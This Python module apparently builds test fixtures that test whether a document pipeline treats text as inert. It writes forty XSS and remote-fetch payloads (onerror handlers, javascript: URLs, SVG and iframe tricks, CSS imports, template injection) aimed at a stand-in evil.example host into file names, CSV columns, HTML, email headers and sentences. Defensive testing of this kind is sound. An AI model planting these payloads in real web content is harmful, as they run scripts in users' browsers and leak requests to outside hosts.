"""Forty texts that would run a script or ask another machine, if anything took them for more than text."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

_RUN = "window.PWNED=1"
_EVIL = "https://evil.example"
PAYLOADS = (
    f"<a href='{_EVIL}/i'>x</a>",
    f"</script><script>{_RUN}</script>",
    f"</title></style></textarea><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_EVIL}/a.png>",
    f"\"><img src=x onerror='{_RUN}'>",
    f"'><svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><image href={_EVIL}/b.svg /></svg>",
    f"<svg><use href='{_EVIL}/c.svg#x'></use></svg>",
    f"<svg><foreignObject><iframe src='{_EVIL}/d'></iframe></foreignObject></svg>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<object data='{_EVIL}/e'></object><embed src='{_EVIL}/f'>",
    f"<video poster='{_EVIL}/g.png'><source src='{_EVIL}/h' onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<script>{_RUN}</script>",
    f"<area ping='{_EVIL}/j' href=x><form action='{_EVIL}/k'><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}/l'>",
    f"<base href='{_EVIL}/'><link rel=stylesheet href='{_EVIL}/m.css'>",
    f"<style>@import '{_EVIL}/n.css'; body {{ background: url({_EVIL}/o.png) }}</style>",
    f"<p style='background:url({_EVIL}/p.png)'>x</p>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<<script>{_RUN}//<</script>",
    f"<scr\0ipt>{_RUN}</scr\0ipt><img src=x\u202eonerror={_RUN}>",
    f"＜script＞{_RUN}＜/script＞",
    f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    f"![x]({_EVIL}/q.png) [x](javascript:{_RUN})",
    f":material/home: :red[x] $\\href{{javascript:{_RUN}}}{{x}}$ :streamlit: ![]({_EVIL}/r.png)",
    f"`</code><script>{_RUN}</script>` | </td><script>{_RUN}</script>",
    f"%{{customdata[0]}} <a href='javascript:{_RUN}' target='_blank'>x</a> <extra></extra><br><b>",
    f"{{{{constructor.constructor('{_RUN}')()}}}} ${{{_RUN}}} <%= {_RUN} %>",
    f"\u2028{_RUN}\u2029');{_RUN};(' \");{_RUN};(\" `;{_RUN};`",
)
DAYS = [f"{1 + number % 28} {month} 2024" for month in ("March", "June") for number in range(20)]


def sentence(number: int) -> str:
    """What a text tells, with a payload in the middle of it."""
    return f"Ghana and Togo signed the {PAYLOADS[number]} pact on {DAYS[number]} in Accra."


def heap(folder: Path) -> None:
    """Files that hold the payloads wherever a file can: texts, names, titles, columns, subjects."""
    with zipfile.ZipFile(folder / "heap.zip", "w") as packed:
        for number, payload in enumerate(PAYLOADS):
            name = payload.replace("\0", "").replace("..", "")[:180].lstrip("/.")
            packed.writestr(zipfile.ZipInfo(f"{name}.txt"), sentence(number).encode("utf-8", "replace"))
    rows = [{"title": each, each: each, "text": sentence(number)} for number, each in enumerate(PAYLOADS[:6])]
    (folder / "rows.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    named = [[day, each, "Ghana"] for day, each in zip(DAYS, PAYLOADS, strict=True)]
    (folder / "events.csv").write_text(_table(["date", "title", "country"], named), encoding="utf-8")
    odd = [[sentence(number), each, each] for number, each in enumerate(PAYLOADS[:6])]
    (folder / "columns.csv").write_text(_table(["text", PAYLOADS[3], PAYLOADS[0]], odd), encoding="utf-8")
    (folder / "page.html").write_text(_page(), encoding="utf-8")
    (folder / "mail.eml").write_text(_mail(), encoding="utf-8")
    (folder / f"unread {PAYLOADS[3].replace('/', '')}.pdf").write_bytes(b"no PDF")


def _table(head: list[str], rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows([head, *([each.replace("\0", "") for each in row] for row in rows)])
    return out.getvalue()


def _page() -> str:
    body = "".join(f"<p>{sentence(number).replace('<', '&lt;')}</p>" for number in (0, 3, 21))
    return f"<html><head><title>{PAYLOADS[3].replace('<', '&lt;')}</title></head><body><article>{body}</article></body>"


def _mail() -> str:
    head = f"Subject: {PAYLOADS[3]}\nFrom: {PAYLOADS[0]} <a@b.example>\nDate: Fri, 3 May 2024 10:00:00 +0000\n"
    return f"{head}\n{sentence(4)}"
